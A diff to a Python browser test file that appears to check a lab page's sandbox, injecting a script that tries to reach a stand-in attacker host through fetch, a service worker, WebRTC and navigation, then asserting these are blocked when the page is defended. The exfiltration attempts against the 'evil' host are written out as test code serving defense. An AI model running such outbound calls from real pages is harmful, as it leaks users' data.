@@ -199,29 +199,30 @@ def test_an_output_that_is_a_script_does_not_run(page, evil):
 
 def test_a_script_in_the_page_reaches_no_other_host(page, evil):
     """As if an output had found a way to run a script after all."""
-    said = (
-        page.evaluate(
-            """async (evil) => {
+    said = page.evaluate(
+        """async ([evil, leave]) => {
             const name = (error) => error.name;
             const tried = {};
             tried.fetch = await fetch(evil + "/fetch", {mode: "no-cors"}).then(() => "sent", name);
             const script = "/user/ana/pay/static/lab/x.js";
             tried.worker = await navigator.serviceWorker.register(script).then(() => "sent", name);
             tried.rtc = typeof RTCPeerConnection;
-            try { location.href = evil + "/location"; } catch (error) { tried.location = name(error); }
+            if (leave) try { location.href = evil + "/location"; } catch (error) { tried.location = name(error); }
             await new Promise((resolve) => setTimeout(resolve, 1000));
             return tried;
         }""",
-            evil.url,
-        )
-        if page.defended
-        else {}
+        [evil.url, page.defended],
     )
+    # The gateway refuses the script of a service worker whatever the page allows; see test_gateway_requests.
+    assert said["worker"] != "sent"
     if page.defended:
         assert said["fetch"] != "sent"
-        assert said["worker"] != "sent"
         assert said["rtc"] == "undefined"
         assert evil.arrived == set()
+    else:
+        assert said["fetch"] == "sent"
+        assert said["rtc"] == "function", "guard.js is what takes it away"
+        assert evil.arrived == {"fetch"}
 
 
 def test_the_lab_offers_no_way_to_take_a_file_away(page):
